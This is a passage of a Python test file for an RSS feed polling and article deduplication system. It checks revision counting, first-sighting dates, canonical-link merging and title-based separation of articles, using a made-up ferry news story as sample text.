    site = await sites(one_after_another(*(feed(rss(item("https://daily.example/0"), change(n))) for n in range(6))))
    for _ in range(6):
        found = await desk.poll(site.url)
        assert found.state.reason is None
        desk.until(found.state.next_poll)
    expected = 3 if "other" in change(0) else 2
    assert await desk.waiting() == expected


async def story(desk, sites, *versions):
    """A feed of one entry that changes from poll to poll, its page collected each time; (site, articles)."""
    site = await sites(ok(status="404 No"))
    for entry, pages in versions:
        site.script = ok(status="404 No")
        site.paths = {"/feed": feed(rss(entry(site.url)))} | {path: ok(body) for path, body in pages.items()}
        found = await desk.poll(f"{site.url}feed")
        assert found.state.reason is None, found.state.detail
        await desk.collect()
        desk.until(found.state.next_poll)
    return site, await desk.articles()


TEXT = ["The ferry to the northern islands stays in port until Thursday, because a crack was found in its starboard shaft.",
        "Divers saw it on Sunday evening during a routine look at the propellers, said the harbour master of the town.",
        "A smaller boat takes patients and schoolchildren across twice a day; everybody else has to wait or take the plane."]


async def test_an_edit_is_a_revision_and_the_first_text_and_sighting_stand(desk, sites):
    _, (article,) = await story(
        desk, sites,
        (lambda base: item(f"{base}1", "Ferry stays"), {"/1": page("Ferry stays", *TEXT)}),
        (lambda base: item(f"{base}1", "Ferry runs again"), {"/1": page("Ferry runs again", "It runs.", *TEXT)}))
    assert (article.title, article.revisions) == ("Ferry stays", 2)
    assert (article.first_seen - (desk.now - timedelta(days=2))).total_seconds() > 0
    assert "It runs." not in article.text


async def test_an_entry_that_goes_and_comes_back_is_one_article_of_its_first_sighting(desk, sites):
    first = desk.now
    one = (lambda base: item(f"{base}1", "Ferry stays"), {"/1": page("Ferry stays", *TEXT)})
    gone = (lambda base: item(f"{base}2", "Other"), {"/2": page("Other", *reversed(TEXT), "And this.")})
    _, articles = await story(desk, sites, one, gone, one)
    assert len(articles) == 2
    assert articles[0].first_seen == first


async def test_a_date_moved_forward_moves_no_sighting(desk, sites):
    first = desk.now
    _, (article,) = await story(desk, sites, *(
        (lambda base, day=day: item(f"{base}1", "Ferry stays", pubDate=f"Mon, 0{day} May 2026 08:00:00 GMT"), {"/1": page("Ferry stays", *TEXT)})
        for day in (4, 5, 6)))
    assert (article.first_seen, article.window.seen) == (first, first)
    assert len({claim.raw for claim in article.claims}) == 3


async def test_a_changed_guid_and_link_lead_to_one_article_where_the_page_says_so(desk, sites):
    canonical = "<link rel=canonical href='/1'>"
    site, (article,) = await story(
        desk, sites,
        (lambda base: item(f"{base}1", "Ferry stays"), {"/1": page("Ferry stays", *TEXT)}),
        (lambda base: item(f"{base}news/9", "Ferry stays"), {"/news/9": page("Ferry stays", *TEXT, head=canonical)}))
    assert await desk.store.article_at(f"{site.url}news/9") == article.id


async def test_the_same_body_and_title_at_another_address_of_the_host_is_the_same_article(desk, sites):
    site, (article,) = await story(
        desk, sites,
        (lambda base: item(f"{base}1", "Ferry stays"), {"/1": page("Ferry stays", *TEXT)}),
        (lambda base: item(f"{base}news/9", "Ferry stays"), {"/news/9": page("Ferry stays", *TEXT)}))
    assert await desk.store.article_at(f"{site.url}news/9") == await desk.store.article_at(f"{site.url}1") == article.id


async def test_the_same_body_under_another_title_stays_an_article_of_its_own(desk, sites):
    _, articles = await story(
        desk, sites,
        (lambda base: item(f"{base}1", "Ferry stays"), {"/1": page("Ferry stays", *TEXT)}),
        (lambda base: item(f"{base}2", "Tide rises"), {"/2": page("Tide rises", *TEXT)}))
    assert len(articles) == 2
